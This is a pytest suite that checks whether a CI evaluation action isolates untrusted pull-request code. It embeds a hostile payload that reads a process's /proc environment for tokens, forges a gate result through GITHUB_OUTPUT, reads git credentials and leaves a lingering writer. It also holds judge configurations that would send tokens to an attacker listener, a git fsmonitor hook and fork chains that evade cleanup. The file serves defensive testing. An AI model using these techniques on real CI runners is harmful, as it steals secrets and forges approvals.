"""What a pull request's code can reach while the action evaluates it. The other user is real, so these run as root."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import AbstractContextManager, suppress
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from projects import CASES, CONFIG, ROOT

from oloproof.errors import ConfigurationError
from oloproof.settings.project import load_project
from oloproof.worker.account import Account, seeing_as
from oloproof_ci.gate_policies import PolicyFiles
from oloproof_ci.git import Base, GitAccess, Repository
from oloproof_ci.isolation import account_for, isolated, runner_folders
from oloproof_ci.lodging import OwnLodgings
from oloproof_ci.preview import Preview
from oloproof_ci.watching import PrintedProgress

OWNER = 54_321
TOKEN = "ghs_the_token_of_this_job"

#: Tries everything while it is evaluated, and notes what of it worked.
HOSTILE = '''
import glob, json, os, subprocess, sys
from pathlib import Path
from oloproof import Passage, Retrieval, rag_system

HERE = Path(__file__).parent
PLACES = json.loads((HERE / "places.json").read_text())

def find_engine():
    """The nearest process above us that is another user's."""
    found = os.getppid()
    while os.stat(f"/proc/{found}").st_uid == os.getuid():
        found = int(Path(f"/proc/{found}/stat").read_text().rpartition(")")[2].split()[1])
    return found

ENGINE = find_engine()

def append(path):
    with open(path, "a") as file:
        file.write("gate<<x\\nALLOW\\nx\\n")

def swap_runner_files():
    files = Path(PLACES["commands"])
    files.rename(files.with_name("moved"))

def stores():
    found = glob.glob("/tmp/oloproof-*/store/*") + glob.glob("/tmp/oloproof-*/store/*/*")
    if not found:
        raise FileNotFoundError
    return found

def any_store_folder():
    return [os.listdir(folder) for folder in glob.glob("/tmp/oloproof-*/store")]

ATTEMPTS = {
    "read the token from the engine's environment": lambda: Path(f"/proc/{ENGINE}/environ").read_bytes(),
    "read the engine's memory": lambda: open(f"/proc/{ENGINE}/mem", "rb").close(),
    "list the engine's open files": lambda: os.listdir(f"/proc/{ENGINE}/fd"),
    "look through the engine's root": lambda: os.listdir(f"/proc/{ENGINE}/cwd/"),
    "set an output": lambda: append(PLACES["output"]),
    "set a variable of later steps": lambda: append(PLACES["env"]),
    "write the summary": lambda: append(PLACES["summary"]),
    "read the event": lambda: Path(PLACES["event"]).read_text(),
    "list the runner's folder": lambda: os.listdir(PLACES["temp"]),
    "move the runner's files away": swap_runner_files,
    "find the store": stores,
    "list the store's folder": any_store_folder,
    "signal the engine": lambda: os.kill(ENGINE, 9),
    "become root": lambda: os.setuid(0),
    "read the stored credentials": lambda: (HERE / ".git/config").read_text().index("AUTHORIZATION"),
}
LURKER = """
import sys, time
end = time.time() + 60
while time.time() < end:
    for path in sys.argv[1:]:
        try:
            with open(path, "a") as file:
                file.write("OWNED")
        except OSError:
            pass
    time.sleep(0.01)
"""

def attack():
    found = {}
    for name, attempt in ATTEMPTS.items():
        try:
            attempt()
            found[name] = "worked"
        except (OSError, ValueError) as error:
            found[name] = type(error).__name__
    lurker = subprocess.Popen(
        [sys.executable, "-c", LURKER, PLACES["output"], str(HERE / "oloproof-report" / "report.json")],
        env={}, start_new_session=True, stdin=-3, stdout=-3, stderr=-3,
    )
    record = {"attempts": found, "environment": dict(os.environ), "uid": os.getuid(), "lurker": lurker.pid,
              "groups": os.getgroups()}
    (HERE / "attempts.json").write_text(json.dumps(record))

@rag_system(name="hostile", version="1", depth=3, top_k=2, index_version="1")
class Rag:
    def __init__(self):
        if not (HERE / "attempts.json").exists():
            attack()

    def retrieve(self, input, depth):
        return Retrieval(query=input, depth=depth, candidates=(Passage(doc_id="d1", score=2.0, text="blue"),))

    def generate(self, input, context):
        return {"answer": context[0].text, "citations": ["d1"]}
'''
BOOT = """
import sys
sys.path.insert(0, sys.argv[1])
sys.executable = sys.argv[2]
from oloproof_ci.cli import main
sys.exit(main(["action"]))
"""


@dataclass
class Job:
    """A job's folders as a hosted runner lays them out, and what came of the step."""

    workspace: Path
    output: Path
    folders: tuple[Path, ...]
    modes: tuple[int, ...]
    printed: str
    attempts: dict[str, Any]


@pytest.fixture(scope="module")
def open_folder() -> Iterator[Path]:
    """A temporary folder that every user may enter, as pytest's own are not."""
    folder = Path(tempfile.mkdtemp(prefix="isolation-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


@pytest.fixture(scope="module")
def everyones_python() -> str:
    """A Python that another user can start too: one in root's home is not."""
    for found in (os.path.realpath(sys.executable), "/usr/local/bin/python3", "/usr/bin/python3"):
        with suppress(OSError):
            probe = "import sys; sys.exit(sys.version_info < (3, 11))"
            if subprocess.run([found, "-c", probe], user=OWNER, cwd="/", check=False).returncode == 0:
                return found
    pytest.fail("no Python of 3.11 or newer that other users may run: install python3")


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server of the attacker's; every request that it gets, headers and all."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            seen.append(f"{self.headers}{body!r}")
            self.send_error(400)

        def log_message(self, *given: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def hostile_job(open_folder: Path, everyones_python: str, listener: tuple[str, list[str]]) -> Job:
    """The action on a pull request whose code, and whose configuration, try to get at everything."""
    top = open_folder
    workspace, temp = top / "workspace", top / "temp"
    commands, workflow = temp / "_runner_file_commands", temp / "_github_workflow"
    for folder in (workspace, commands, workflow, top / "home"):
        folder.mkdir(parents=True)
    named = {name: commands / name for name in ("output", "env", "summary")}
    for path in named.values():
        path.touch()
    event = workflow / "event.json"
    places = {**{name: str(path) for name, path in named.items()}, "event": str(event), "temp": str(temp)}
    files = {
        "app.py": HOSTILE,
        "oloproof.yaml": json.dumps(CONFIG),
        "judged.yaml": _judged(listener[0], "GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "MODEL_KEY"),
        "input.yaml": _judged(listener[0], "INPUT_GITHUB-TOKEN"),
        "roots.yaml": "the_secret_of_root: 1\n",
        "cases.jsonl": "".join(json.dumps(case) + "\n" for case in CASES),
        "places.json": json.dumps({**places, "commands": str(commands)}),
        "release.yaml": "{version: 1, rules: [{id: r, metric: correct, kind: observed_count, max_failures: 9}]}",
    }
    for name, body in files.items():
        (workspace / name).write_text(body)
    sha = _committed(workspace)
    _git(workspace, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic c2VjcmV0")
    event.write_text(json.dumps({"after": sha, "ref": "refs/heads/main"}))
    packages = top / "packages"
    for name in ("oloproof", "oloproof_ci"):
        shutil.copytree(ROOT / name, packages / name, ignore=shutil.ignore_patterns("__pycache__"))
    for folder, folders, names in os.walk(top):
        if not Path(folder).is_relative_to(packages):
            for name in (*folders, *names):
                os.chown(os.path.join(folder, name), OWNER, OWNER)
    # Stands for what a link leads to that the code lays once it was looked at: only root may read it.
    os.chown(workspace / "roots.yaml", 0, 0)
    (workspace / "roots.yaml").chmod(0o600)
    guarded = (commands, workflow, temp, top / "home")
    before = tuple(folder.stat().st_mode for folder in guarded)
    environment = {
        **os.environ,
        "GITHUB_WORKSPACE": str(workspace),
        "GITHUB_REPOSITORY": "acme/rag",
        "GITHUB_EVENT_NAME": "push",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_SHA": sha,
        "GITHUB_REF": "refs/heads/main",
        "GITHUB_RUN_ID": "7",
        "GITHUB_API_URL": "http://127.0.0.1:9",
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_OUTPUT": str(named["output"]),
        "GITHUB_ENV": str(named["env"]),
        "GITHUB_STEP_SUMMARY": str(named["summary"]),
        "RUNNER_TEMP": str(temp),
        "HOME": str(top / "home"),
        "TMPDIR": "/tmp",
        "GITHUB_TOKEN": TOKEN,
        "INPUT_GITHUB-TOKEN": TOKEN,
        "INPUT_CONFIG": "oloproof.yaml\njudged.yaml\ninput.yaml\nroots.yaml",
        "ACTIONS_RUNTIME_TOKEN": TOKEN,
        "THE_SAME_UNDER_ANOTHER_NAME": TOKEN,
        "THE_SAME_IN_AN_ADDRESS": f"https://x-access-token:{TOKEN}@github.com/acme/rag",
        "MODEL_KEY": "the user's own",
    }
    done = subprocess.run(
        [sys.executable, "-c", BOOT, str(packages), everyones_python],
        env=environment,
        cwd="/",
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=120,
        check=False,
    )
    record = workspace / "attempts.json"
    assert record.exists(), done.stdout
    return Job(workspace, named["output"], guarded, before, done.stdout, json.loads(record.read_text()))


def _judged(url: str, *names: str) -> str:
    """A configuration with judges that are to be asked at an address of the attacker's, under these keys."""
    judge = {
        "type": "rubric_judge",
        "provider": "openai_compatible",
        "model": "m",
        "rubric_text": "Is it blue?",
    }
    judges = [{**judge, "base_url": url, "criterion": name.lower(), "api_key_env": name} for name in names]
    return json.dumps({**CONFIG, "evaluators": [*CONFIG["evaluators"], *judges]})


def _git(folder: Path, *arguments: str) -> str:
    settings = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "safe.directory=*")
    return subprocess.run(
        ["git", *settings, "-C", str(folder), *arguments], capture_output=True, text=True, check=True
    ).stdout.strip()


def _committed(folder: Path) -> str:
    _git(folder, "init", "-q", "-b", "main")
    _git(folder, "add", "-A")
    _git(folder, "commit", "-qm", "all")
    return _git(folder, "rev-parse", "HEAD")


def test_hostile_code_fails_at_everything_it_tries(hostile_job: Job) -> None:
    attempts = hostile_job.attempts["attempts"]
    assert len(attempts) == 15
    assert [name for name, outcome in attempts.items() if outcome == "worked"] == []


def test_it_runs_as_the_workspaces_owner_and_in_no_other_group(hostile_job: Job) -> None:
    assert hostile_job.attempts["uid"] == OWNER
    assert hostile_job.attempts["groups"] == []


def test_its_environment_holds_neither_token_nor_input_nor_runner_file(hostile_job: Job) -> None:
    seen = hostile_job.attempts["environment"]
    assert [name for name, value in seen.items() if TOKEN in value] == []
    assert [n for n in seen if n.startswith(("INPUT_", "ACTIONS_"))] == []
    assert not {"GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY", "GITHUB_EVENT_PATH"} & set(seen)
    assert seen["MODEL_KEY"] == "the user's own"


def test_a_configuration_cannot_have_the_token_sent_to_an_address_of_its_own(
    hostile_job: Job, listener: tuple[str, list[str]]
) -> None:
    _, seen = listener
    assert any("the user's own" in request for request in seen), hostile_job.printed
    assert [request for request in seen if TOKEN in request] == []
    assert (
        "input.yaml: not evaluated: input.yaml:1: evaluators[2]: api_key_env must name" in hostile_job.printed
    )


def test_its_home_and_temporary_folder_are_its_own(hostile_job: Job) -> None:
    seen = hostile_job.attempts["environment"]
    assert seen["HOME"].startswith("/tmp/oloproof-")
    assert seen["TMPDIR"].startswith("/tmp/oloproof-")


def test_the_run_is_evaluated_all_the_same(hostile_job: Job) -> None:
    assert "oloproof.yaml: ALLOW" in hostile_job.printed, hostile_job.printed
    assert hostile_job.output.read_text().startswith("gate<<")


def test_a_configuration_is_read_with_no_more_rights_than_the_code_has(hostile_job: Job) -> None:
    assert "roots.yaml: cannot be read: Permission denied" in hostile_job.printed, hostile_job.printed
    assert "the_secret_of_root" not in hostile_job.printed


class _OwnersReading(OwnLodgings):
    """Reads the checkout as the action's container does when the code has run."""

    def reading(self) -> AbstractContextManager[None]:
        return seeing_as(Account(OWNER, OWNER))


@pytest.mark.parametrize("compared", [True, False])
@pytest.mark.parametrize("policy", ["release.yaml", "compare.yaml"])
def test_policies_are_read_with_no_more_rights_than_the_code_has(
    open_folder: Path, compared: bool, policy: str
) -> None:
    """Code of a suite before this one may have laid a link to what only root may read."""
    tree = open_folder / f"policies-{compared}-{policy}"
    tree.mkdir()
    (tree / "oloproof.yaml").write_text(json.dumps(CONFIG))
    sha = _committed(tree)
    secret = open_folder / f"secret-{compared}-{policy}"
    secret.write_text("the_secret_of_root: 1\n")
    secret.chmod(0o600)
    (tree / policy).symlink_to(secret)
    project = load_project(tree / "oloproof.yaml")
    access = GitAccess(os.environ, settings=(("safe.directory", "*"),))
    preview = Preview(
        Repository(tree, access),
        project,
        PolicyFiles.of(None, tree),
        PrintedProgress(),
        None,
        _OwnersReading(),
    )
    with pytest.raises(ConfigurationError, match=f"{policy}: cannot be read: Permission denied"):
        preview.report(Base(sha, "main")) if compared else preview.report_alone()


def test_what_it_leaves_running_is_ended_before_the_report_is_written(hostile_job: Job) -> None:
    lurker = Path(f"/proc/{hostile_job.attempts['lurker']}/cmdline")
    assert not lurker.exists() or b"OWNED" not in lurker.read_bytes()
    time.sleep(0.1)
    assert "OWNED" not in hostile_job.output.read_text()
    report = hostile_job.workspace / "oloproof-report" / "report.json"
    json.loads(report.read_text())


def test_the_report_belongs_to_the_workspaces_owner(hostile_job: Job) -> None:
    assert (hostile_job.workspace / "oloproof-report" / "report.json").stat().st_uid == OWNER


def test_the_runners_folders_are_given_back_as_they_were(hostile_job: Job) -> None:
    assert tuple(folder.stat().st_mode for folder in hostile_job.folders) == hostile_job.modes
    assert {folder.stat().st_uid for folder in hostile_job.folders} == {OWNER}


def test_the_checkouts_credentials_are_put_back(hostile_job: Job) -> None:
    config = hostile_job.workspace / ".git" / "config"
    assert "AUTHORIZATION: basic c2VjcmV0" in config.read_text()
    assert config.stat().st_uid == OWNER


def test_nothing_of_the_run_stays_behind(hostile_job: Job) -> None:
    assert not Path(hostile_job.attempts["environment"]["HOME"]).parent.exists()


def test_programs_that_a_repository_makes_git_start_run_as_its_owner(open_folder: Path) -> None:
    tree = open_folder / "hooked"
    tree.mkdir()
    hook = tree / "hook.sh"
    hook.write_text(f"#!/bin/sh\nid -u > {tree}/seen.txt\nenv >> {tree}/seen.txt\n")
    hook.chmod(0o755)
    _committed(tree)
    _git(tree, "config", "core.fsmonitor", str(hook))
    for folder, folders, names in os.walk(tree):
        for name in (".", *folders, *names):
            os.chown(os.path.join(folder, name), OWNER, OWNER)
    account = Account(OWNER, OWNER)
    access = GitAccess({"PATH": os.environ["PATH"]}, account, account, (("safe.directory", str(tree)),))
    Repository(tree, access).is_dirty()
    seen = (tree / "seen.txt").read_text()
    assert seen.splitlines()[0] == str(OWNER)


def test_in_a_workspace_of_roots_the_code_runs_as_somebody_else(open_folder: Path) -> None:
    account = account_for(open_folder)
    assert account is not None
    assert account.uid not in (0, OWNER)


@pytest.mark.parametrize(("group", "own"), [(OWNER, False), (OWNER + 1, True)])
def test_the_code_is_never_in_the_group_that_commands_the_docker_daemon(
    open_folder: Path, group: int, own: bool
) -> None:
    workspace, daemon = open_folder / f"of-{group}", open_folder / f"socket-{group}"
    workspace.mkdir()
    daemon.touch()
    os.chown(workspace, OWNER, group)
    os.chown(daemon, 0, group)
    account = account_for(workspace, daemon)
    assert account is not None
    assert account.uid == OWNER
    assert account.gid != group
    assert (account.gid == OWNER) is own


#: Each of these starts its successor and is gone, faster than anybody can list processes; for ten seconds at most.
CHAINS = """
import os, time
os.setresgid({owner}, {owner}, {owner})
os.setresuid({owner}, {owner}, {owner})
end = time.monotonic() + 10
for _ in range(7):
    if os.fork() == 0:
        break
while time.monotonic() < end:
    if os.fork():
        os._exit(0)
    os.setsid()
"""
CONTAINER = """
import subprocess, sys, time
from oloproof_ci.leftovers import no_leftovers
with no_leftovers():
    subprocess.Popen([sys.executable, "-S", "-c", sys.argv[1]], stderr=subprocess.DEVNULL)
    time.sleep(0.7)
    begun = time.monotonic()
print(time.monotonic() - begun)
"""


def test_in_the_container_nothing_outruns_its_end() -> None:
    """The action's process is the container's first, as here."""
    namespace = ["unshare", "--pid", "--fork", "--mount-proc"]
    done = subprocess.run(
        [*namespace, sys.executable, "-c", CONTAINER, CHAINS.format(owner=OWNER)],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert float(done.stdout) < 5, "they were ended, and did not end by themselves"


def test_folders_are_given_back_when_the_run_fails(open_folder: Path) -> None:
    runners = open_folder / "failing"
    runners.mkdir()
    os.chown(runners, OWNER, OWNER)
    runners.chmod(0o755)
    during: list[tuple[int, int]] = []

    def fail() -> None:
        with isolated(open_folder, {"RUNNER_TEMP": str(runners), "HOME": str(open_folder)}):
            during.append((runners.stat().st_uid, runners.stat().st_mode & 0o777))
            raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        fail()
    assert during == [(0, 0o711)]
    assert (runners.stat().st_uid, runners.stat().st_mode & 0o777) == (OWNER, 0o755)


def test_a_folder_that_holds_the_runners_files_is_closed_whatever_else_it_is(tmp_path: Path) -> None:
    output = tmp_path / "temp" / "output"
    output.parent.mkdir()
    environment = {
        "RUNNER_TEMP": str(output.parent),
        "GITHUB_OUTPUT": str(output),
        "HOME": str(tmp_path / "gone"),
    }
    assert runner_folders(environment) == {output.parent: 0o700}
    assert runner_folders({"RUNNER_TEMP": str(output.parent)}) == {output.parent: 0o711}
